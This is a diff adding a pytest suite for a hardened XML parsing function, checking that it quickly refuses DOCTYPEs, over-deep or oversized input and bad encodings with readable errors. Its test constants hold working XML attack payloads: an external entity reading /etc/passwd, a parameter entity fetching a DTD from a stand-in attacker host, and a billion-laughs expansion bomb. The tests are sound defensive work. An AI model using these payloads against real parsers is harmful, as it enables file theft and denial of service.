@@ -1,0 +1,113 @@
+"""The hardened XML entry point refuses hostile input quickly and with a readable reason (DESIGN.md section 5)."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from lxml import etree
+
+from dian.errors import ParseError
+from dian.xmlsafe import parse_xml
+
+XXE_EXTERNAL = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
+<r>&x;</r>"""
+
+XXE_PARAMETER = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]>
+<r/>"""
+
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
+    + b"".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
+    )
+    + b"]>\n<lolz>&lol9;</lolz>"
+)
+
+
+def _refused(data: bytes, **limits: int) -> ParseError:
+    started = time.perf_counter()
+    with pytest.raises(ParseError) as caught:
+        parse_xml(data, **limits)
+    assert time.perf_counter() - started < 0.5, "refusal must be quick"
+    return caught.value
+
+
+@pytest.mark.parametrize("data", [XXE_EXTERNAL, XXE_PARAMETER, BILLION_LAUGHS], ids=["xxe", "parameter", "laughs"])
+def test_doctype_is_refused_before_any_expansion(data: bytes) -> None:
+    error = _refused(data)
+    assert "DOCTYPE" in str(error)
+    assert error.where == "line 2"
+
+
+def test_doctype_in_lowercase_or_late_is_refused() -> None:
+    assert "DOCTYPE" in str(_refused(b"<!--x-->\n\n<!doctype r><r/>"))
+
+
+def test_too_deep_tree() -> None:
+    depth = 100
+    error = _refused(b"<a>" * depth + b"</a>" * depth, max_depth=64)
+    assert "deeper than 64" in str(error)
+
+
+def test_depth_limit_is_exact() -> None:
+    assert parse_xml(b"<a>" * 5 + b"</a>" * 5, max_depth=5) is not None
+    _refused(b"<a>" * 6 + b"</a>" * 6, max_depth=5)
+
+
+def test_oversized_input() -> None:
+    error = _refused(b"<r>" + b"x" * 2000 + b"</r>", max_bytes=1000)
+    assert "too large" in str(error) and "1000" in str(error)
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (b"%PDF-1.7 not xml", "not XML"),
+        (b"", "empty"),
+        (b"   \n", "empty"),
+        (b"<a><b></a>", "malformed XML"),
+        (b"<a>&undefined;</a>", "malformed XML"),
+        ("<a/>".encode("utf-16"), "UTF-16"),
+        (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "UTF-7"),
+    ],
+    ids=["pdf", "empty", "blank", "mismatch", "entity", "utf16", "utf7"],
+)
+def test_non_xml_gives_a_readable_reason(data: bytes, reason: str) -> None:
+    assert reason in str(_refused(data))
+
+
+def test_malformed_input_names_line_and_column() -> None:
+    error = _refused(b"<a>\n<b>\n</a>")
+    assert error.where is not None and error.where.startswith("line 3")
+    assert str(error).count("line 3") == 1  # libxml2's own position suffix is not repeated in the message
+
+
+def test_non_bytes_input_is_refused() -> None:
+    with pytest.raises(ParseError, match="bytes"):
+        parse_xml("<a/>")  # type: ignore[arg-type]
+
+
+def test_whitespace_comments_and_processing_instructions_are_kept() -> None:
+    data = b'<?xml version="1.0" encoding="UTF-8"?>\n<r>\n  <!-- c --><?pi x?>\n  <b  a="1"/>\n</r>'
+    root = parse_xml(data)
+    assert etree.tostring(root) == b'<r>\n  <!-- c --><?pi x?>\n  <b a="1"/>\n</r>'
+    assert root.getroottree().docinfo.encoding == "UTF-8"
+
+
+def test_utf8_bom_and_latin1_are_accepted() -> None:
+    assert parse_xml(b"\xef\xbb\xbf<r>\xc3\xb1</r>").text == "ñ"
+    assert parse_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><r>\xf1</r>').text == "ñ"
+
+
+def test_relative_namespace_uri_parses() -> None:
+    # One real invoice declares xmlns:none="none" (dian-facts.md 5): lxml parses it, only C14N refuses it.
+    root = parse_xml(b'<r xmlns:none="none"><none:x/></r>')
+    assert root[0].tag == "{none}x"
+
+
+def test_real_samples_parse(samples_dir) -> None:
+    for path in sorted(samples_dir.glob("*.xml")):
+        assert parse_xml(path.read_bytes()) is not None, path.name
